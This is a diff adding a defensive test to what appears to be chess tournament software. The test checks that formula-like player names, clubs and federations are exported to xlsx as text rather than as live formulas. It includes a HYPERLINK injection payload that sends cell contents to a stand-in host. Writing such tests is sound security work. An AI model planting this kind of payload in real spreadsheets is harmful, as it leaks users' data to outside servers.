@@ -63,3 +63,25 @@ def test_crosstable_sheet_equals_the_crosstable(workbook) -> None:
         assert values[:4] == [row.line, row.rank, row.tpn, row.name]
         assert tuple(values[5:14]) == row.cells, line
         assert Fraction(values[14]) == row.points
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path) -> None:
+    """Formula injection (issue 16): a player's name, club or federation is never a live formula."""
+    from dataclasses import replace
+
+    from arbiter_gui.formats.trf import read_trf
+    from arbiter_gui.formats.trf_tournament import tournament_from_trf
+    from tests.reports import GENERATED
+
+    t = tournament_from_trf(read_trf(str(GENERATED)))
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
+    players = {**t.players, 1: replace(t.players[1], name=hostile, club="=1+1", federation="=A1")}
+    t = replace(t, players=players)
+    path = tmp_path / "event.xlsx"
+    export_xlsx(t, path)
+    wb = openpyxl.load_workbook(path)
+    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row
+             if isinstance(cell.value, str) and cell.value.startswith("=")]
+    assert cells and all(cell.data_type == "s" for cell in cells)
+    assert {cell.value for cell in cells} >= {hostile, "=1+1", "=A1"}
+    assert wb["Players"]["C2"].value == hostile
